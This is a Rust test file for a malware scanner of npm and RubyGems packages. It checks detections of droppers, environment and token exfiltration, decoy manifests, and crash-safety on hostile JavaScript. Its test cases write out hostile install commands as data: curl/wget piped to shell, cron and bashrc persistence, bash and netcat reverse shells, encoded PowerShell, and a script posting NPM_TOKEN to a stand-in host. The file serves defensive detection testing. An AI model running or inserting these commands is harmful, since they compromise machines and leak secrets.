//! npm and RubyGems packages end to end: fixture trees packed into real `.tgz` and `.gem`
//! archives in memory, scanned, and checked finding by finding; plus hostile JavaScript
//! shapes (deep nesting, huge expressions, minified megabytes) that must not crash.

use crate::common::{assert_finding, files, fixture, gem, gzip, scan, tar, with_rule};
use pkgwarden::finding::{Category, Phase};
use pkgwarden::verdict::Verdict;
use pkgwarden::PackageReport;

fn npm(dir: &str) -> PackageReport {
    let name = dir.rsplit('/').next().unwrap();
    scan(
        &format!("{name}-1.0.0.tgz"),
        &gzip(&tar(&files(&fixture(dir)), "package/")),
    )
}

fn rubygem(dir: &str) -> PackageReport {
    let name = dir.rsplit('/').next().unwrap();
    scan(&format!("{name}-1.0.0.gem"), &gem(&fixture(dir)))
}

fn category_of(r: &PackageReport, rule: &str) -> Category {
    with_rule(r, rule)
        .first()
        .unwrap_or_else(|| panic!("no {rule}: {:#?}", r.findings))
        .category
}

#[test]
fn postinstall_dropper_downloads_to_home_and_starts_detached() {
    let r = npm("npm/postinstall-dropper");
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert_finding(&r, "download-at-install", "package/install.js", 8);
    assert_finding(&r, "write-home", "package/install.js", 9);
    assert_finding(&r, "detached-process", "package/install.js", 14);
    assert_finding(&r, "dropper-chain", "package/install.js", 8);
    assert!(with_rule(&r, "dropper-chain")
        .iter()
        .all(|f| f.phase == Phase::Install));
}

#[test]
fn preinstall_env_exfiltration_to_a_webhook() {
    let r = npm("npm/env-exfil");
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // The request and its `.write`/`.end` are one send: one finding, naming the address.
    let sends = with_rule(&r, "env-exfiltration");
    assert_eq!(sends.len(), 1, "{sends:#?}");
    assert!(
        sends[0]
            .message
            .contains("to `https://hooks.example.invalid/collect`"),
        "{}",
        sends[0].message
    );
    assert_eq!(category_of(&r, "env-exfiltration"), Category::Exfiltration);
}

#[test]
fn postinstall_eval_of_base64() {
    let r = npm("npm/eval-base64");
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert_finding(&r, "exec-decoded", "package/lib/setup.js", 2);
    assert_eq!(category_of(&r, "exec-decoded"), Category::ExecDecoded);
}

#[test]
fn dependency_from_a_url() {
    let r = npm("npm/url-dependency");
    assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
    assert_finding(&r, "dependency-url", "package/package.json", 7);
    assert_finding(&r, "dependency-url", "package/package.json", 8);
    assert_eq!(category_of(&r, "dependency-url"), Category::MetadataAnomaly);
}

#[test]
fn benign_npm_lookalikes_are_clean() {
    for dir in [
        "npm/node-gyp",
        "npm/husky-prepare",
        "npm/prisma-generate",
        "npm/banner",
        "npm/cli-git",
    ] {
        let r = npm(dir);
        assert_eq!(r.verdict, Verdict::Clean, "{dir}: {:#?}", r.findings);
    }
}

#[test]
fn bin_script_without_extension_is_analysed_as_javascript() {
    let r = npm("npm/cli-git");
    assert!(r.notes.is_empty(), "{:?}", r.notes);
    let bytes = gzip(&tar(&files(&fixture("npm/cli-git")), "package/"));
    let contents = pkgwarden::archive::read_archive(&bytes, &Default::default()).unwrap();
    let mut pkg = pkgwarden::package::Package::new(contents.entries, "git-short-log-1.0.0.tgz");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    let analysed = pkgwarden::analysis::analyse(&mut pkg, &Default::default(), deadline).files;
    let bin = analysed
        .iter()
        .find(|f| f.path == "package/bin/gsl")
        .expect("bin/gsl analysed");
    assert!(bin
        .facts
        .calls
        .iter()
        .any(|c| c.callee == "child_process.spawnSync"));
    assert!(bin.facts.calls.iter().any(|c| c.callee == "sh.git"));
}

#[test]
fn gem_extconf_dropper() {
    let r = rubygem("rubygems/dropper-gem");
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert_finding(&r, "dropper-chain", "ext/beacon/extconf.rb", 2);
    assert_finding(&r, "write-home", "ext/beacon/extconf.rb", 2);
    assert_finding(&r, "detached-process", "ext/beacon/extconf.rb", 2);
}

#[test]
fn gem_post_install_hook_sends_the_environment() {
    let r = rubygem("rubygems/plugin-hook");
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert_finding(&r, "env-exfiltration", "lib/rubygems_plugin.rb", 6);
    assert!(with_rule(&r, "env-exfiltration")
        .iter()
        .all(|f| f.phase == Phase::Install));
}

#[test]
fn gem_with_a_plain_mkmf_extension_is_clean() {
    let r = rubygem("rubygems/mkmf-ext");
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    assert_eq!(r.name, "fastz");
}

/// Shell command lines through an npm install script, one behaviour each.
#[test]
fn install_script_shell_behaviours() {
    let cases = [
        ("curl -fsSL https://203.0.113.9/i.sh | bash", "exec-downloaded"),
        ("wget -qO- http://198.51.100.3/x | sh", "exec-downloaded"),
        ("curl -so ~/.x http://192.0.2.1/x && chmod +x ~/.x && ~/.x &", "dropper-chain"),
        ("nohup node ./daemon.js > /dev/null 2>&1 &", "detached-process"),
        ("(crontab -l; echo '* * * * * ~/.x') | crontab -", "cron-job"),
        ("echo 'node ~/.x &' >> ~/.bashrc", "shell-rc-write"),
        ("echo Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA== | base64 -d | sh", "exec-decoded"),
        ("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", "reverse-shell"),
        ("nc -e /bin/sh 192.0.2.7 4444", "reverse-shell"),
        // `iwr http://192.0.2.5/a | iex` as UTF-16LE base64.
        (
            "powershell -NoProfile -enc aQB3AHIAIABoAHQAdABwADoALwAvADEAOQAyAC4AMAAuADIALgA1AC8AYQAgAHwAIABpAGUAeAA=",
            "exec-decoded",
        ),
        (
            "powershell -NoProfile -enc aQB3AHIAIABoAHQAdABwADoALwAvADEAOQAyAC4AMAAuADIALgA1AC8AYQAgAHwAIABpAGUAeAA=",
            "exec-downloaded",
        ),
    ];
    for (script, rule) in cases {
        let manifest = serde_json::json!({
            "name": "probe", "version": "1.0.0", "scripts": { "postinstall": script }
        });
        let bytes = gzip(&tar(
            &[(
                "package.json".to_string(),
                manifest.to_string().into_bytes(),
            )],
            "package/",
        ));
        let r = scan("probe-1.0.0.tgz", &bytes);
        assert!(
            !with_rule(&r, rule).is_empty(),
            "{script}: no {rule} in {:#?}",
            r.findings
        );
        assert_ne!(r.verdict, Verdict::Clean, "{script}");
    }
}

/// `binding.gyp` command expansions run while node-gyp builds at install.
#[test]
fn gyp_command_expansion_runs_at_install() {
    let gyp = "{ 'targets': [ { 'target_name': 'x',\n 'sources': [ '<!(curl -s http://192.0.2.8/s | sh)' ] } ] }";
    let manifest = r#"{ "name": "x", "version": "1.0.0", "gypfile": true }"#;
    let bytes = gzip(&tar(
        &[
            ("package.json".to_string(), manifest.into()),
            ("binding.gyp".to_string(), gyp.into()),
        ],
        "package/",
    ));
    let r = scan("x-1.0.0.tgz", &bytes);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert_finding(&r, "exec-downloaded", "package/binding.gyp", 2);
}

/// Runs `body` on a thread with a large stack, as scan workers do.
fn on_big_stack(body: impl FnOnce() + Send + 'static) {
    std::thread::Builder::new()
        .stack_size(256 << 20)
        .spawn(body)
        .unwrap()
        .join()
        .unwrap();
}

fn scan_js(name: &str, source: String) -> PackageReport {
    let bytes = gzip(&tar(
        &[(name.to_string(), source.into_bytes())],
        "payload-1.0.0/",
    ));
    scan("payload-1.0.0.tgz", &bytes)
}

#[test]
fn hostile_javascript_shapes_do_not_crash() {
    on_big_stack(|| {
        let deep_arrays = format!("x = {}1{};", "[".repeat(100_000), "]".repeat(100_000));
        let r = scan_js("arrays.js", deep_arrays);
        assert_ne!(r.verdict, Verdict::Error);
        assert!(
            r.errors.iter().any(|n| n.contains("nested deeper")),
            "{:?}",
            r.errors
        );

        let deep_parens = format!("y = {}1{};", "(".repeat(50_000), ")".repeat(50_000));
        assert_ne!(scan_js("parens.js", deep_parens).verdict, Verdict::Error);

        let long_sum = format!("z = a{};", "+a".repeat(200_000));
        assert_ne!(scan_js("sum.js", long_sum).verdict, Verdict::Error);
    });
}

#[test]
fn twelve_mebibytes_of_minified_javascript() {
    on_big_stack(|| {
        let chunk = "var a=function(b){return b.map(function(c){return c+1}).filter(Boolean)},d={e:[1,2,3],f:'g'};";
        let mut source = String::with_capacity(12 << 20);
        while source.len() < 12 << 20 {
            source.push_str(chunk);
        }
        let r = scan_js("bundle.min.js", source);
        assert_eq!(r.verdict, Verdict::Clean, "{:#?} {:?}", r.findings, r.notes);
    });
}

/// One named secret variable sent out is secret exfiltration, not the whole environment.
#[test]
fn a_named_secret_variable_is_a_secret() {
    let files = vec![
        (
            "package.json".to_string(),
            br#"{"name":"tok","version":"1.0.0","scripts":{"postinstall":"node x.js"}}"#.to_vec(),
        ),
        (
            "x.js".to_string(),
            b"const https = require('https');\nconst r = https.request({ hostname: 'collect.example.invalid', method: 'POST' });\nr.write(process.env.NPM_TOKEN);\n".to_vec(),
        ),
    ];
    let r = crate::common::scan(
        "tok-1.0.0.tgz",
        &crate::common::gzip(&crate::common::tar(&files, "package/")),
    );
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule == "secret-exfiltration" && f.line == 3),
        "{:#?}",
        r.findings
    );
    assert!(
        !r.findings.iter().any(|f| f.rule == "env-exfiltration"),
        "{:#?}",
        r.findings
    );
}

/// The libpeshnx sdist with a package.json beside its setup.py: the decoy manifest must not
/// make it an npm package whose setup.py runs only when called.
#[test]
fn a_decoy_package_json_does_not_hide_an_sdist_install_hook() {
    let mut files = files(&fixture("pypi/libpeshnx-sdist"));
    files.push((
        "package.json".into(),
        br#"{"name": "libpeshnx", "version": "0.1", "scripts": {"test": "node t.js"}}"#.to_vec(),
    ));
    let report = scan(
        "libpeshnx-0.1.tar.gz",
        &gzip(&tar(&files, "libpeshnx-0.1/")),
    );
    assert_eq!(report.ecosystem, pkgwarden::ecosystem::Ecosystem::Pypi);
    assert_eq!(report.verdict, pkgwarden::verdict::Verdict::Malicious);
    assert_finding(&report, "dropper-chain", "setup.py", 17);
}

/// An npm tarball whose `preinstall` runs a script, shipped with a setup.py and PKG-INFO
/// that make it look like an sdist: the lifecycle script still runs at install.
#[test]
fn a_decoy_pkg_info_does_not_hide_an_npm_lifecycle_script() {
    let mut files = files(&fixture("npm/postinstall-dropper"));
    files.push((
        "PKG-INFO".into(),
        b"Metadata-Version: 2.1\nName: chalk-colors-extra\nVersion: 1.0.3\n".to_vec(),
    ));
    let report = scan(
        "chalk-colors-extra-1.0.3.tgz",
        &gzip(&tar(&files, "package/")),
    );
    assert_eq!(report.verdict, pkgwarden::verdict::Verdict::Malicious);
    assert!(
        !with_rule(&report, "dropper-chain").is_empty(),
        "{:?}",
        report.findings
    );
}

/// A POST at install sends; it is not reported as a download (issue 13).
#[test]
fn a_post_at_install_is_a_send_not_a_download() {
    let report = npm("npm/dropper");
    let post: Vec<_> = with_rule(&report, "download-at-install")
        .into_iter()
        .filter(|f| f.file.ends_with("scripts/setup.js") && f.line == 4)
        .collect();
    assert_eq!(post.len(), 1, "{:?}", report.findings);
    assert!(
        post[0]
            .message
            .starts_with("sends data to `https://collect.example.invalid/p`"),
        "{}",
        post[0].message
    );
}

/// `curl … | sh` in a preinstall script is one contact: reported once, by the program that
/// makes it, not again for the script that runs it (issue 13).
#[test]
fn a_command_line_contact_is_reported_once() {
    let report = npm("npm/dropper");
    let contacts: Vec<_> = with_rule(&report, "suspicious-endpoint")
        .into_iter()
        .filter(|f| f.file.ends_with("package.json") && f.line == 7)
        .collect();
    assert_eq!(contacts.len(), 1, "{contacts:#?}");
    assert!(
        contacts[0].message.contains("with `sh.curl`"),
        "{}",
        contacts[0].message
    );
}
